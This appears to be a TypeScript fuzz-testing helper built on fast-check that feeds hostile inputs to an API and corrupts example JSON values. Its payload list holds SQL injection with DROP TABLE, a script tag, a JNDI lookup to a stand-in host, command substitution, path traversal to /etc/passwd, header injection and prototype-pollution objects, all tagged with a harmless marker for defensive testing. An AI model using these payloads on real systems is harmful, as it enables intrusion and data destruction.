import fc from 'fast-check';

/** Stands in every hostile text; an answer that holds it echoes what it was sent. */
export const MARK = 'zqxjkv';

const deep = (depth: number): unknown => JSON.parse('['.repeat(depth) + ']'.repeat(depth));
const tricks = [
  `' OR 1=1; DROP TABLE forecasts; -- ${MARK}`,
  `<script>alert("${MARK}")</script>`,
  `\${jndi:ldap://${MARK}.example/a}`,
  `{{7*7}}${MARK}`,
  `${MARK}\r\nset-cookie: ${MARK}=1`,
  `${MARK}\u0000`,
  `../../../../etc/passwd?${MARK}`,
  `..\\..\\${MARK}`,
  `%2e%2e%2f${MARK}`,
  `${MARK}\u202Eevil\uFEFF`,
  `𝒰𝓃𝒾 ${MARK} \uD800`,
  `$(touch /tmp/${MARK})`,
  `${MARK}${'A'.repeat(3_000)}`,
  '__proto__',
  'constructor',
  'toString',
  '',
  ' ',
  'null',
  'NaN',
  '-1',
  '1e309',
  '9'.repeat(400),
  '0x10',
  'true',
  '[]',
  ',',
  ',,,,',
];

/** A text that somebody might send to do harm, or by mistake. */
export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...tricks) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }).map((text) => MARK + text) },
);

/** Any JSON value of a kind that nobody asked for. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  fc.constantFrom<unknown>(null, true, -0, -1, 0.1, 1e308, Number.MAX_SAFE_INTEGER + 2, [], {}, deep(40)),
  fc.constantFrom<unknown>(
    { $ne: MARK },
    JSON.parse(`{"__proto__":{"admin":true,"mark":"${MARK}"}}`),
    { constructor: { prototype: { admin: MARK } } },
    Array.from({ length: 300 }, (_, i) => i),
  ),
  fc.jsonValue({ maxDepth: 3 }),
);

/** `example` with one place in it spoilt: replaced, left out, or joined by a stranger. */
export function spoiled(example: unknown): fc.Arbitrary<unknown> {
  const places = placesOf(example);
  return fc
    .tuple(fc.constantFrom(...places), fc.constantFrom('replace', 'drop', 'add'), hostileText, hostileValue)
    .map(([place, how, name, value]) => changed(example, place, how, name, value));
}

type Place = readonly (string | number)[];

function placesOf(value: unknown, at: Place = []): Place[] {
  if (typeof value !== 'object' || value === null) return [at];
  return [at, ...Object.entries(value).flatMap(([key, child]) => placesOf(child, [...at, key]))];
}

function changed(value: unknown, [key, ...rest]: Place, how: string, name: string, put: unknown): unknown {
  if (key === undefined) {
    if (how === 'add' && typeof value === 'object' && value !== null) return withEntry(value, name, put);
    return put;
  }
  const copy = structuredClone(value) as Record<string | number, unknown>;
  if (rest.length === 0 && how === 'drop') delete copy[key];
  else copy[key] = changed(copy[key], rest, how, name, put);
  return copy;
}

/** As a parser of JSON would have it: `__proto__` becomes a property like any other. */
function withEntry(value: object, name: string, put: unknown): unknown {
  if (Array.isArray(value)) return [...(value as unknown[]), put];
  return JSON.parse(
    JSON.stringify(value)
      .replace(/}$/, `,${JSON.stringify(name)}:${JSON.stringify(put)}}`)
      .replace('{,', '{'),
  );
}
